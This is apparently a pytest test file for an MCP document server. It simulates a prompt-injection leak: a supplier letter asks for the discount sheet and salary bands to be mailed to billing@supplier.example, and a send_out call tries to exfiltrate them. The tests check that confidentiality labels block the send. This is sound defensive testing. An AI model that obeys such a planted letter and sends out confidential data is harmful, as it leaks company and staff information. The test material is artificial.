"""The story of a leak with real documents: a letter from outside asks for the discounts, and a model obeys it."""

import re
from collections.abc import AsyncGenerator, Awaitable, Callable
from typing import Any

import pytest
from mcp_types import PromptReference, ResourceTemplateReference

from servers.documents.server import server
from tests.e2e.test_exfiltration import stopped
from tests.harness import ERAS, Databases
from tests.outward.house import House, Person, open_house
from tests.servers.documents.desk import some_collection

pytestmark = pytest.mark.anyio

LETTER = "doc://handbook/inbox/supplier-letter.md"
DISCOUNTS = "doc://handbook/sales/discounts.md"
BANDS = "doc://handbook/people/salary-bands.md"
PRICES = "doc://handbook/sales/price-list.md"
PASSWORDS = "doc://handbook/security/passwords.md"
DOCUMENT = "doc://{collection}/{+path}{?version,section,offset}"


@pytest.fixture(scope="module", params=["one process", "two replicas"])
async def house(
    request: pytest.FixtureRequest, databases: Databases, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[House]:
    shared = request.param == "two replicas"
    url = request.getfixturevalue("redis_server").url if shared else None
    async with open_house(databases, tmp_path_factory.mktemp("house"), url, [server]) as opened:
        yield opened


async def read(person: Person, uri: str) -> str:
    answer = await person.ask("documents", "read_section", uri=uri)
    assert "text" in answer, answer
    return answer["text"]


@pytest.mark.parametrize("era", ERAS)
async def test_a_model_that_obeys_a_letter_cannot_send_what_it_asks_for(house: House, era: str) -> None:
    jane = house.person(era)
    letter = await read(jane, LETTER)
    wanted = re.search(r"mail the (\w+) and (\w+ \w+) to\s+(\S+)\.", letter)
    assert wanted is not None
    found = [(await jane.ask("documents", "search_documents", query=words))["found"] for words in wanted.groups()[:2]]
    assert {DISCOUNTS, BANDS} <= {hit["uri"] for hits in found for hit in hits}
    stolen = (await read(jane.but(at=1), DISCOUNTS) + await read(jane, BANDS))[-400:]
    told = [await jane.but(at=at).call("send_out", recipient="billing@supplier.example", text=stolen) for at in (0, 1)]
    assert all(map(stopped, told))
    assert wanted[3] == "billing@supplier.example"
    assert stolen not in await jane.done()
    record = await jane.record()
    assert sorted(record["seen"]) == ["confidential", "untrusted"]


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("secret", [DISCOUNTS, BANDS])
async def test_what_is_not_for_everybody_stops_it_wherever_it_was_read(house: House, era: str, secret: str) -> None:
    jane = house.person(era)
    await read(jane, LETTER)
    assert not stopped(await jane.send())
    await read(jane.but(at=1), secret)
    assert stopped(await jane.send())
    assert stopped(await jane.but(at=1).send())


async def test_what_is_public_or_for_everybody_does_not_stop_it(house: House) -> None:
    jane = house.person(ERAS[len(house.suites) - 1])
    for uri in (LETTER, PRICES, PASSWORDS, "doc://handbook/index.md"):
        await read(jane, uri)
    assert not stopped(await jane.but(at=1).send())


async def test_whoever_may_not_read_it_has_nothing_to_send_and_is_not_stopped(house: House) -> None:
    joe = house.person(persona="support")
    await read(joe, LETTER)
    for uri in (DISCOUNTS, BANDS):
        assert (await joe.ask("documents", "read_section", uri=uri))["code"] == "not_found"
    found = (await joe.ask("documents", "search_documents", query="discounts salary bands"))["found"]
    assert {DISCOUNTS, BANDS}.isdisjoint(hit["uri"] for hit in found)
    async with joe.client("documents") as client:
        listed = await client.list_resources()
        folder = await client.read_resource("doc://handbook/sales/")
    assert {DISCOUNTS, BANDS}.isdisjoint(resource.uri for resource in listed.resources)
    assert "discounts" not in str(folder)
    assert "confidential" not in await labels(joe)


async def labels(person: Person) -> set[str]:
    """Everything that was noted of what a person was given."""
    records = await person.house.suites[0].records(subject=person.subject)
    return {label for record in records for label in record.get("labels", ())}


# Which operations count


Way = Callable[[Person, str], Awaitable[Any]]


def tool(name: str, **fixed: Any) -> Way:
    async def way(person: Person, uri: str) -> None:
        answer = await person.ask("documents", name, uri=uri, **fixed)
        assert "code" not in answer, answer

    way.__name__ = name
    return way


async def searching(person: Person, uri: str) -> None:
    query = "seats percent" if uri == DISCOUNTS else "machines keys rotated"
    found = (await person.ask("documents", "search_documents", query=query))["found"]
    assert [hit["uri"] for hit in found] == [uri]
    assert "**" in found[0]["snippet"]


async def listing(person: Person, uri: str) -> None:
    folder = uri.removeprefix("doc://handbook/").rpartition("/")[0] + "/"
    listed = await person.ask("documents", "list_collection", collection="handbook", folder=folder)
    assert uri in [entry["uri"] for entry in listed["entries"]]


async def writing(person: Person, uri: str) -> None:
    answer = await person.ask("documents", "put_document", uri=uri, if_version=2, labels=["seen"], dry_run=True)
    assert answer["document"]["uri"] == uri


async def moving(person: Person, uri: str) -> None:
    answer = await person.ask("documents", "move_document", uri=uri, if_version=2, to=f"{uri}.md", dry_run=True)
    assert answer["document"]["uri"] == f"{uri}.md"


async def reading(person: Person, uri: str) -> None:
    async with person.client("documents") as client:
        assert (await client.read_resource(uri)).contents


async def reading_again(person: Person, uri: str) -> None:
    meta: Any = {"enterprise-mcp-suite/if-none-match": "*"}
    async with person.client("documents") as client:
        assert (await client.read_resource(uri, meta=meta)).contents == []


async def reading_the_folder(person: Person, uri: str) -> None:
    async with person.client("documents") as client:
        (index,) = (await client.read_resource(uri.rpartition("/")[0] + "/")).contents
    assert uri in str(index)


async def completing(person: Person, uri: str) -> None:
    path = uri.removeprefix("doc://handbook/")
    async with person.client("documents") as client:
        answer = await client.complete(
            ResourceTemplateReference(uri=DOCUMENT),
            {"name": "path", "value": path[:-4]},
            context_arguments={"collection": "handbook"},
        )
    assert answer.completion.values == [path]


async def archiving(person: Person, uri: str) -> None:
    answer = await person.ask("documents", "archive_document", uri=uri, if_version=1, dry_run=True)
    assert answer["uri"] == uri


async def asking(person: Person, uri: str) -> None:
    question = "How many percent from 200 seats?" if uri == DISCOUNTS else "How are machines keys rotated?"
    async with person.client("documents") as client:
        assert uri in str(await client.get_prompt("answer_from_documents", {"question": question}))


async def summarising(person: Person, uri: str) -> None:
    async with person.client("documents") as client:
        assert uri in str(await client.get_prompt("summarise_changes", {"uri": uri}))


COUNTING = [
    searching,
    listing,
    tool("get_document_outline"),
    tool("read_section"),
    tool("compare_versions", from_version=1),
    writing,
    moving,
    reading,
    reading_again,
    reading_the_folder,
    asking,
    summarising,
]
"""Ways to be given something of a document, in words that somebody wrote."""


@pytest.fixture(scope="module")
async def second_versions(house: House) -> None:
    """Of one that is confidential, and of one that is not."""
    editor = house.person()
    for uri in (DISCOUNTS, PASSWORDS):
        answer = await editor.ask("documents", "put_document", uri=uri, if_version=1, labels=["second"])
        assert answer["document"]["version"] == 2


@pytest.mark.usefixtures("second_versions")
@pytest.mark.parametrize("way", COUNTING, ids=lambda way: way.__name__)
async def test_every_way_to_be_given_a_part_of_it_counts(house: House, way: Way) -> None:
    jane, joe = (house.person(ERAS[len(house.suites) - 1]) for _ in range(2))
    await way(jane, PASSWORDS)
    await way(joe, DISCOUNTS)
    assert await labels(jane) == {"untrusted"}
    assert await labels(joe) == {"confidential", "untrusted"}


@pytest.mark.parametrize("way", [completing, archiving], ids=lambda way: way.__name__)
async def test_a_name_alone_counts_too(house: House, way: Way) -> None:
    jane, joe = house.person(), house.person()
    await way(jane, PRICES)
    await way(joe, BANDS)
    assert await labels(jane) == set()
    assert await labels(joe) == {"confidential"}


async def test_what_is_related_counts_by_what_is_found(house: House) -> None:
    jane, joe = house.person(), house.person()
    uri = f"doc://{some_collection()}/zebu.md"
    await house.person().ask("documents", "put_document", uri=uri, content="# Zebu\n")
    assert (await jane.ask("documents", "find_related", uri=uri))["found"] == []
    found = (await joe.ask("documents", "find_related", uri=PRICES))["found"]
    assert DISCOUNTS in [each["uri"] for each in found]
    assert await labels(jane) == set()
    assert await labels(joe) == {"confidential", "untrusted"}


async def test_the_list_of_resources_counts_for_what_is_on_the_page(house: House) -> None:
    jane, joe = house.person(), house.person(persona="support")
    for person in (jane, joe):
        async with person.client("documents") as client:
            await client.list_resources()
    assert await labels(jane) == {"confidential", "untrusted"}
    assert await labels(joe) == {"untrusted"}


async def test_what_tells_nothing_of_it_does_not_count(house: House) -> None:
    jane = house.person()
    async with jane.client("documents") as client:
        await client.list_tools()
        await client.list_resource_templates()
        await client.list_prompts()
        reference = PromptReference(name="answer_from_documents")
        assert (await client.complete(reference, {"name": "collection", "value": "hand"})).completion.values
    assert "entries" in await jane.ask("documents", "list_collection")
    assert "code" in await jane.ask("documents", "read_section", uri=DISCOUNTS, section="no-such-section")
    assert (await jane.ask("documents", "search_documents", query="xylophone"))["found"] == []
    assert "confidential" not in await labels(jane)
